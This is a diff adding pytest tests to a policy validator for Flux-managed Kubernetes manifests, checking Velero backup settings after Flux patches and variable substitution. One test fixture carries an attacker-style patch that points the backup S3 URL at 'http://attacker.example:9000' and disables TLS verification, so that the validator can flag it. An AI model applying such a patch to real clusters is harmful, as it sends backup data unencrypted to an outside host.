@@ -303,3 +303,60 @@ def test_values_flux_fills_at_apply_time_are_not_judged(tmp_path):
     (tmp_path / "v.yaml").write_text(doc % ("Bad_Bucket", "http://minio:9000", "every day", "a month"))
     rules = sorted(f.rule for f in validate_paths([tmp_path / "v.yaml"], Options()).findings)
     assert rules == ["policy.bucket", "policy.cron", "policy.s3-https", "policy.ttl"]
+
+
+def _home_lab_with_app_patches(tmp_path, patches: list):
+    """A copy of the home-lab example whose `velero` Flux Kustomization carries ``patches`` (spec.patches)."""
+    import shutil
+
+    import yaml
+
+    from cli_util import EXAMPLE
+
+    root = tmp_path / "repo"
+    shutil.copytree(EXAMPLE, root)
+    ks = root / "kubernetes/apps/velero/velero/ks.yaml"
+    docs = [d for d in yaml.safe_load_all(ks.read_text()) if d]
+    for d in docs:
+        if d["metadata"]["name"] == "velero":
+            d["spec"]["patches"] = patches
+    ks.write_text(yaml.safe_dump_all(docs))
+    return root
+
+
+def test_policy_judges_what_flux_applies_not_only_the_file(tmp_path):
+    """kustomize-controller@v1.9.4 internal/controller/kustomization_controller.go builds the path with the Flux
+    Kustomization's spec.patches (fluxcd/pkg@kustomize/v1.35.4 kustomize/kustomize_generator.go adds them to the
+    generated kustomization) and applies the result: a patch that turns the file's https s3Url into http, and adds
+    insecureSkipTLSVerify, is what the cluster gets. From an attacker's probe that had not seen the fix."""
+    from cli_util import require_kubectl
+
+    require_kubectl()
+    base = "/spec/values/configuration/backupStorageLocation/0/config"
+    root = _home_lab_with_app_patches(tmp_path, [{"target": {"kind": "HelmRelease", "name": "velero"}, "patch": (
+        f'[{{"op": "replace", "path": "{base}/s3Url", "value": "http://attacker.example:9000"}},'
+        f' {{"op": "add", "path": "{base}/insecureSkipTLSVerify", "value": "true"}}]')}])
+    res = validate_paths([str(root)], Options(repo_root=str(root), kustomize="auto", cache_dir=str(tmp_path / "c"),
+                                              externals=["Kustomization/flux-system/openebs"]))
+    got = sorted((f.rule, f.file.split("repo/")[-1]) for f in res.findings if f.rule.startswith("policy."))
+    assert got == [("policy.insecure-tls", "kubernetes/apps/velero/velero/app/helmrelease.yaml"),
+                   ("policy.s3-https", "kubernetes/apps/velero/velero/app/helmrelease.yaml")], res.findings
+    assert all("in what Flux applies" in f.message for f in res.findings if f.rule.startswith("policy."))
+    clean = _home_lab_with_app_patches(tmp_path / "clean", [])
+    res = validate_paths([str(clean)], Options(repo_root=str(clean), kustomize="auto", cache_dir=str(tmp_path / "c"),
+                                               externals=["Kustomization/flux-system/openebs"]))
+    assert not [f for f in res.findings if f.rule.startswith("policy.")]
+
+
+@pytest.mark.parametrize("opted_out", [True, False])
+def test_an_expression_flux_does_not_substitute_is_judged_as_written(tmp_path, opted_out):
+    """fluxcd/pkg@kustomize/v1.35.4:kustomize/kustomize_varsub.go skips an object annotated
+    `kustomize.toolkit.fluxcd.io/substitute: disabled`: its `${S3_URL}` reaches Velero as written, which is no URL.
+    Without the annotation the value is filled at apply time from a source Git may not show: not judged."""
+    text = velero_helmrelease("configuration:\n  backupStorageLocation:\n    - name: default\n      provider: aws\n"
+                              "      bucket: velero\n      config:\n        s3Url: ${S3_URL}\n")
+    if opted_out:
+        text = text.replace("metadata:\n", "metadata:\n  annotations:\n    kustomize.toolkit.fluxcd.io/substitute: disabled\n", 1)
+    found = [f for f in _findings(tmp_path, text) if f.rule == "policy.s3-https"]
+    assert bool(found) is opted_out
+    assert all("applied as written" in f.message for f in found)
